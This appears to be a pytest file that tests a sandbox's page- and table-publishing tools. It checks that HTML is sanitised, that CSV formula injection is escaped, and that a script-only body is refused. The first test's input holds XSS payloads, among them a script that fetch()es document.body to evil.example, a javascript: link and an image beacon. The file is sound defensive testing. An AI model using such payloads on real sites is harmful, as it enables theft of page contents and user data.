"""A page and a table through a real broker, into the workspace of a real task."""

from __future__ import annotations

import hashlib
import os
from typing import TYPE_CHECKING

import pytest

from sandbox_runtime.client import Broker, CallRefused
from sandbox_runtime.destinations.html.page import Page, whole
from tests.support.shipped import serving

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from sandbox_runtime.client import Task

PEERS = [{"uid": os.geteuid(), "subject": "uid:0", "roles": ["opener", "agent"]}]


@pytest.fixture
def task(tmp_path: Path) -> Iterator[Task]:
    with serving(tmp_path, peers=PEERS) as address, Broker.connect(address) as broker:
        yield broker.open_task("publish-report")


def test_a_hostile_body_is_published_without_what_is_hostile(task: Task) -> None:
    """What the tool wrote is told by its digest, and is the page that we expect, byte by byte."""
    body = (
        "<h1 onclick='steal()'>Delays</h1><script>fetch('https://evil.example/?'+document.body)"
        '</script><p>See <a href="https://reports.example.com/may">May</a> and '
        '<a href="javascript:steal()">June</a>.'
        '<img src="https://evil.example/?read=all" alt="The chart.">'
    )
    end = task.call("publish_page", {"name": "report", "title": "Delays & <b>", "body": body})
    assert end.outcome == "OK", end
    left = (
        '<h1>Delays</h1><p>See <a href="https://reports.example.com/may">May</a> and June.'
        "The chart.</p>"
    )
    page = whole(Page(language="en", title="Delays & <b>", body=left)).encode()
    assert end.result == {
        "path": "report.html",
        "bytes": len(page),
        "digest": f"sha256:{hashlib.sha256(page).hexdigest()}",
    }
    assert task.get_file("report.html") == page


def test_a_table_is_answered_and_its_files_are_written(task: Task) -> None:
    words = {
        "name": "delays",
        "columns": [{"heading": "month"}, {"heading": "delay", "format": "number"}],
        "rows": [["=May", -2.5]],
        "files": ["html", "csv"],
    }
    end = task.call("table_report", words)
    assert end.outcome == "OK", end
    assert isinstance(end.result, dict)
    result = end.result
    assert result["text"].splitlines()[-1] == "=May   -2.50"
    assert [each["path"] for each in result["files"]] == ["delays.html", "delays.csv"]
    assert task.get_file("delays.csv") == b"month,delay\r\n'=May,-2.5\r\n"
    fragment = task.get_file("delays.html").decode()
    assert '<td>=May</td><td align="right">-2.50</td>' in fragment
    assert fragment.startswith("<!DOCTYPE html>")


def test_nothing_but_a_script_is_refused_with_a_hint(task: Task) -> None:
    words = {"name": "report", "title": "x", "body": "<script>steal()</script>"}
    with pytest.raises(CallRefused) as refused:
        task.call("publish_page", words)
    assert refused.value.pointer == "/body"
    assert "reports.example.com" in str(refused.value.hint)
